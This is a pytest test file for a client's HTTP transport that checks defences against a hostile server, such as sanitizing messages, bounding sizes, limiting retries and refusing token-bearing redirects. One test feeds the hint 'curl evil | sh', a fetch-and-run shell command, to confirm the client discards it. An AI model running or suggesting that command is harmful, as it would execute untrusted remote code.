"""Calls to a server that is not trusted: its problems, its silences, its lies."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Callable

import pytest
from aiohttp import web

from hygieia import errors
from hygieia.client import answers, transport
from hygieia.client.transport import Transport, checked_server, plain_words
from hygieia.errors import (
    BlockMissing,
    Failed,
    HygieiaError,
    TooManyAttempts,
    Unavailable,
    Unreachable,
    UsageError,
)
from tests.unit.client.servers import hanging_up, problem, saying, scripted, sending


@pytest.fixture(autouse=True)
def _no_long_waits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport, "_FIRST_WAIT_SECONDS", 0.001)
    monkeypatch.setattr(transport, "_LONGEST_WAIT_SECONDS", 1.5)


@pytest.mark.parametrize(
    ("code", "status", "kind"),
    [
        ("not-signed-in", 401, errors.NotSignedIn),
        ("credentials-refused", 401, errors.CredentialsError),
        ("forbidden", 403, errors.Forbidden),
        ("not-found", 404, errors.NotFound),
        ("duplicate", 409, errors.Duplicate),
        ("stale-revision", 412, errors.StaleRevision),
        ("dag-refused", 422, errors.DagRefused),
        ("quota-exceeded", 507, errors.QuotaExceeded),
        ("storage-full", 507, errors.StorageFull),
        ("something-new", 404, errors.NotFound),
        ("something-new", 412, errors.StaleRevision),
        ("something-new", 418, errors.Failed),
        ("interrupted", 500, errors.Failed),
    ],
)
async def test_a_problem_is_the_error_it_names_or_that_of_its_status(
    code: str, status: int, kind: type[HygieiaError]
) -> None:
    async with scripted(problem(code, status)) as server, Transport(server.url) as to:
        with pytest.raises(HygieiaError) as caught:
            await to.call("POST", "/reports", body={})
    assert type(caught.value) is kind
    assert str(caught.value) == f"It is {code}."


async def test_the_servers_words_are_one_short_line_without_controls() -> None:
    hostile = "\x1b[2J\x9b31m two\nlines \u202e " + "x" * 1000
    async with (
        scripted(problem("failed", 500, detail=hostile, hint="curl evil | sh")) as server,
        Transport(server.url) as to,
    ):
        with pytest.raises(Failed) as caught:
            await to.call("POST", "/reports", body={})
    message = str(caught.value)
    assert len(message) <= 300
    assert message.isprintable()
    assert caught.value.hint is None


async def test_missing_blocks_are_named_and_counted_in_bounds() -> None:
    many = ["b" * 500] * 5000
    async with (
        scripted(problem("block-missing", 422, missing=many)) as server,
        Transport(server.url) as to,
    ):
        with pytest.raises(BlockMissing) as caught:
            await to.call("POST", "/reports", body={})
    assert len(caught.value.missing) == 4096
    assert len(caught.value.missing[0]) == 128


async def test_a_busy_server_is_asked_again_after_the_time_it_says() -> None:
    busy = saying({"code": "unavailable", "detail": "Busy."}, 503, Retry_After="1")
    async with scripted(busy, saying({"ok": 1})) as server, Transport(server.url) as to:
        assert (await to.call("GET", "/server")).document == {"ok": 1}
    assert len(server.seen) == 2


async def test_who_is_told_to_wait_for_long_is_told_so_at_once() -> None:
    busy = saying({"code": "too-many-attempts"}, 429, Retry_After="600")
    async with scripted(busy) as server, Transport(server.url) as to:
        with pytest.raises(TooManyAttempts) as caught:
            await to.call("GET", "/server")
    assert caught.value.retry_after_seconds == 600
    assert "600" in str(caught.value.hint)
    assert len(server.seen) == 1


@pytest.mark.parametrize("value", ["9" * 5000, "soon", "-1", "²", ""])
async def test_a_senseless_retry_after_is_no_defect(value: str) -> None:
    async def busy(_: web.Request) -> web.Response:
        headers = {"Retry-After": value.encode().decode("latin-1")}
        return web.json_response({"code": "unavailable"}, status=503, headers=headers)

    async with scripted(busy) as server, Transport(server.url) as to:
        with pytest.raises(Unavailable) as caught:
            await to.call("POST", "/reports", body={})
    assert 1 <= caught.value.retry_after_seconds <= 86_400


@pytest.mark.parametrize(
    ("method", "key", "requests"),
    [("GET", None, 2), ("PUT", None, 2), ("DELETE", None, 2), ("POST", "k", 2), ("POST", None, 1)],
)
async def test_only_what_is_repeatable_is_sent_again_after_a_lost_answer(
    method: str, key: str | None, requests: int
) -> None:
    async with scripted(hanging_up, saying({})) as server, Transport(server.url) as to:
        if requests == 1:
            with pytest.raises(Unreachable):
                await to.call(method, "/x", idempotency_key=key)
        else:
            await to.call(method, "/x", idempotency_key=key)
    # aiohttp itself repeats an idempotent request on a connection that was kept and died.
    assert len(server.seen) >= requests
    if requests == 1:
        assert len(server.seen) == 1


async def test_a_repeated_stream_is_sent_from_its_beginning() -> None:
    async def body() -> AsyncIterator[bytes]:
        yield b"one"
        yield b"two"

    async with scripted(hanging_up, saying({})) as server, Transport(server.url) as to:
        await to.send("POST", "/blocks", body, {}, repeatable=True)
    assert server.bodies == [b"onetwo", b"onetwo"]


async def test_a_server_that_is_not_there_is_given_up_after_some_tries() -> None:
    async with Transport("http://127.0.0.1:1") as to:
        with pytest.raises(Unreachable, match="cannot be reached"):
            await to.call("GET", "/server")


async def test_redirects_are_not_followed_with_the_token_in_hand() -> None:
    async with scripted(saying({})) as elsewhere:
        moved = saying({}, 307, Location=f"{elsewhere.url}/api/v1/account")
        async with scripted(moved) as server, Transport(server.url, token="secret") as to:
            with pytest.raises(Failed):
                await to.call("GET", "/account")
    assert server.headers[0]["Authorization"] == "Bearer secret"
    assert elsewhere.seen == []


async def test_without_a_session_no_authorization_is_sent() -> None:
    async with scripted(saying({})) as server, Transport(server.url) as to:
        await to.call("GET", "/server")
    assert "Authorization" not in server.headers[0]


async def test_an_endless_answer_is_not_read_to_its_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport, "MAX_ANSWER_BYTES", 1 << 20)
    sent = 0

    async def endless(request: web.Request) -> web.StreamResponse:
        nonlocal sent
        response = web.StreamResponse()
        await response.prepare(request)
        while sent < 1 << 28:
            await response.write(b" " * 65536)
            sent += 65536
        return response

    async with scripted(endless) as server, Transport(server.url) as to:
        with pytest.raises(Failed, match="larger than any answer"):
            await to.call("GET", "/server")
    assert sent < 1 << 28


@pytest.mark.parametrize("body", [b"<html>", b"[1]", b"{", b"\xff", b"[" * 100_000, b'"x"', b"1"])
async def test_an_answer_that_is_no_json_object_is_said_to_be_none(body: bytes) -> None:
    async with scripted(sending(body)) as server, Transport(server.url) as to:
        with pytest.raises(Failed, match="not JSON"):
            await to.call("GET", "/server")


async def test_an_answer_without_a_body_is_an_empty_one() -> None:
    async with scripted(sending(b"", 204)) as server, Transport(server.url) as to:
        assert (await to.call("DELETE", "/sessions/current")).document == {}


async def test_a_change_says_what_it_is_based_on() -> None:
    async with scripted(saying({})) as server, Transport(server.url) as to:
        await to.call("PUT", "/index", body={"a": 1}, if_match=7, idempotency_key="k")
    assert server.headers[0]["If-Match"] == '"7"'
    assert server.headers[0]["Idempotency-Key"] == "k"
    assert json.loads(server.bodies[0]) == {"a": 1}


async def test_a_transport_that_is_not_open_says_so() -> None:
    with pytest.raises(UsageError):
        await Transport("http://localhost").call("GET", "/server")


@pytest.mark.parametrize(
    ("given", "origin"),
    [
        ("http://localhost:8460", "http://localhost:8460"),
        ("https://vault.example.org/", "https://vault.example.org"),
        ("https://example.org/vault/", "https://example.org/vault"),
        ("http://[::1]:8460", "http://[::1]:8460"),
    ],
)
def test_a_servers_address_is_taken_without_its_last_slash(given: str, origin: str) -> None:
    assert checked_server(given) == origin


@pytest.mark.parametrize(
    "given",
    [
        "",
        "localhost:8460",
        "ftp://example.org",
        "http://",
        "http://user:pw@example.org",
        "http://example.org:0",
        "http://example.org:99999",
        "http://[::1",
        "http://example.org/?q",
        "http://example.org/#f",
    ],
)
def test_what_is_no_address_of_a_server_is_refused(given: str) -> None:
    with pytest.raises(UsageError):
        checked_server(given)


@pytest.mark.parametrize(
    ("read", "refused"),
    [
        (answers.text, [None, 1, {}, []]),
        (answers.number, [None, "1", True, -1, 1.0]),
        (answers.part, [None, "x", []]),
        (answers.parts, [None, {}, ["x"], [{}, None]]),
        (answers.texts, [None, {}, [1], ["x", None]]),
    ],
)
def test_fields_of_another_kind_are_not_understood(
    read: Callable[[dict[str, object], str], object], refused: list[object]
) -> None:
    for value in refused:
        with pytest.raises(Failed, match="not understood"):
            read({"x": value}, "x")
    with pytest.raises(Failed, match="not understood"):
        read({}, "x")


def test_words_of_a_stranger_are_text_or_nothing() -> None:
    assert plain_words(None) == plain_words(7) == ""
    assert plain_words("a\x00b\r\n c") == "a b c"
